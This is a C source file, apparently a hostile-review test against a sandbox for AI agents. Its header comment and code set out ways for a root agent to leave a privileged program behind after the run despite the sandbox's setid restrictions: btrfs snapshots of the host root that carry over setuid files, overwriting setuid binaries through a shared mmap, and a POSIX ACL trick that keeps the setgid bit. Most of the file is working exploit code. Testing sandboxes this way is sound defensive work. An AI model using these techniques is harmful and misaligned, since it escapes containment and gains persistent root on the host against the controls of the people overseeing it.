/* ha24-setid.c (hostile review h-attack24, against 315075b): a root agent
 * leaves a program that runs privileged outside the run although the
 * setid programs under its declared paths are bound read-only at start
 * (rootfs.c bind_setid), every mode call with S_ISUID/S_ISGID is refused
 * and CAP_FSETID and CAP_SETFCAP are dropped.
 *   snap SRC DSTDIR NAME: btrfs snapshot of the subvolume whose root is
 *     SRC (any subvolume of the declared path's file system, read-only in
 *     the agent's view: the host's /) as DSTDIR/NAME, on the declared
 *     path. The snapshot's files are new inodes with the source's modes
 *     and xattrs (S_ISUID, security.capability), made after the walk: no
 *     bind covers them. Snapshotting needs no capability: the source's
 *     owner (uid 0) and a writable destination.
 *   mmap FILE PAYLOAD: writes PAYLOAD over the first bytes of FILE through
 *     a shared mapping (keeps S_ISUID and security.capability).
 *   acl FILE: sets a minimal POSIX ACL (user rwx, group r-x, other r-x)
 *     on FILE: the kernel rewrites the group bits of the mode from it and
 *     keeps S_ISGID for a caller in the file's group (posix_acl_update_mode):
 *     a setgid file without group execute (not bound: "a locking mark")
 *     becomes a setgid program without any mode call. The agent first
 *     joins the file's group (setgroups: CAP_SETGID is kept).
 *   chmod FILE OCTAL: plain chmod (no setid bit in the mode: the filter
 *     lets it through); chmod keeps security.capability.
 *   write FILE PAYLOAD: plain write() of PAYLOAD over FILE's first bytes.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <unistd.h>

/* linux/btrfs.h, without the header */
#define BTRFS_SUBVOL_NAME_MAX 4039
struct btrfs_ioctl_vol_args_v2 {
	int64_t fd;
	uint64_t transid;
	uint64_t flags;
	union {
		struct {
			uint64_t size;
			void *qgroup_inherit;
		};
		uint64_t unused[4];
	};
	union {
		char name[BTRFS_SUBVOL_NAME_MAX + 1];
		uint64_t devid;
		uint64_t subvolid;
	};
};
#define BTRFS_IOC_SNAP_CREATE_V2 _IOW(0x94, 23, struct btrfs_ioctl_vol_args_v2)

static void show(const char *file)
{
	struct stat st;
	char cap[64];
	ssize_t n;

	if (lstat(file, &st)) {
		printf("agent: %s: %s\n", file, strerror(errno));
		return;
	}
	n = lgetxattr(file, "security.capability", cap, sizeof(cap));
	printf("agent: %s: mode %04o uid %d gid %d dev %u:%u ino %llu%s\n", file,
	       (unsigned)st.st_mode & 07777, (int)st.st_uid, (int)st.st_gid, major(st.st_dev),
	       minor(st.st_dev), (unsigned long long)st.st_ino,
	       n > 0 ? " security.capability" : "");
}

static int snap(const char *src, const char *dst, const char *name)
{
	static struct btrfs_ioctl_vol_args_v2 a;
	int s = open(src, O_RDONLY | O_DIRECTORY), d = open(dst, O_RDONLY | O_DIRECTORY);

	if (s < 0 || d < 0) {
		perror("agent: open");
		return 1;
	}
	a.fd = s;
	snprintf(a.name, sizeof(a.name), "%s", name);
	if (ioctl(d, BTRFS_IOC_SNAP_CREATE_V2, &a)) {
		perror("agent: BTRFS_IOC_SNAP_CREATE_V2");
		return 1;
	}
	printf("agent: snapshot of %s made as %s/%s\n", src, dst, name);
	return 0;
}

static int do_mmap(const char *file, const char *payload)
{
	struct stat st, ps;
	int fd = open(file, O_RDWR), pfd = open(payload, O_RDONLY);
	char *dst, *src;

	if (fd < 0 || pfd < 0 || fstat(fd, &st) || fstat(pfd, &ps)) {
		printf("agent: open %s O_RDWR: %s\n", file, strerror(errno));
		return 1;
	}
	if (ps.st_size > st.st_size) {
		fprintf(stderr, "agent: payload larger than %s\n", file);
		return 1;
	}
	dst = mmap(NULL, (size_t)st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	src = mmap(NULL, (size_t)ps.st_size, PROT_READ, MAP_PRIVATE, pfd, 0);
	if (dst == MAP_FAILED || src == MAP_FAILED) {
		perror("agent: mmap");
		return 1;
	}
	memcpy(dst, src, (size_t)ps.st_size);
	msync(dst, (size_t)st.st_size, MS_SYNC);
	munmap(dst, (size_t)st.st_size);
	close(fd);
	printf("agent: wrote %lld bytes over %s through a shared mapping\n", (long long)ps.st_size,
	       file);
	show(file);
	return 0;
}

static int do_write(const char *file, const char *payload)
{
	char buf[65536];
	int fd = open(file, O_WRONLY), pfd = open(payload, O_RDONLY);
	ssize_t n;

	if (fd < 0 || pfd < 0) {
		printf("agent: open %s O_WRONLY: %s\n", file, strerror(errno));
		return 1;
	}
	n = read(pfd, buf, sizeof(buf));
	if (n <= 0 || write(fd, buf, (size_t)n) != n) {
		perror("agent: write");
		return 1;
	}
	close(fd);
	printf("agent: wrote %zd bytes over %s with write()\n", n, file);
	show(file);
	return 0;
}

static int acl(const char *file)
{
	/* posix_acl_xattr_header + 3 entries: USER_OBJ rwx, GROUP_OBJ r-x,
	 * OTHER r-x */
	struct __attribute__((packed)) {
		uint32_t version;
		struct __attribute__((packed)) {
			uint16_t tag, perm;
			uint32_t id;
		} e[3];
	} x = {2, {{0x01, 7, ~0u}, {0x04, 5, ~0u}, {0x20, 5, ~0u}}};

	struct stat st;

	/* Into the file's group (CAP_SETGID is kept), so that the kernel
	 * keeps S_ISGID without CAP_FSETID. */
	if (stat(file, &st) || setgroups(1, &st.st_gid)) {
		perror("agent: setgroups");
		return 1;
	}
	show(file);
	if (setxattr(file, "system.posix_acl_access", &x, sizeof(x), 0)) {
		perror("agent: setxattr system.posix_acl_access");
		return 1;
	}
	printf("agent: set the ACL u::rwx,g::r-x,o::r-x\n");
	show(file);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 5 && !strcmp(argv[1], "snap"))
		return snap(argv[2], argv[3], argv[4]);
	if (argc == 4 && !strcmp(argv[1], "mmap"))
		return do_mmap(argv[2], argv[3]);
	if (argc == 4 && !strcmp(argv[1], "write"))
		return do_write(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "acl"))
		return acl(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "chmod")) {
		show(argv[2]);
		if (chmod(argv[2], (mode_t)strtoul(argv[3], NULL, 8))) {
			perror("agent: chmod");
			return 1;
		}
		show(argv[2]);
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "show")) {
		show(argv[2]);
		return 0;
	}
	fprintf(stderr, "usage: see the header\n");
	return 2;
}
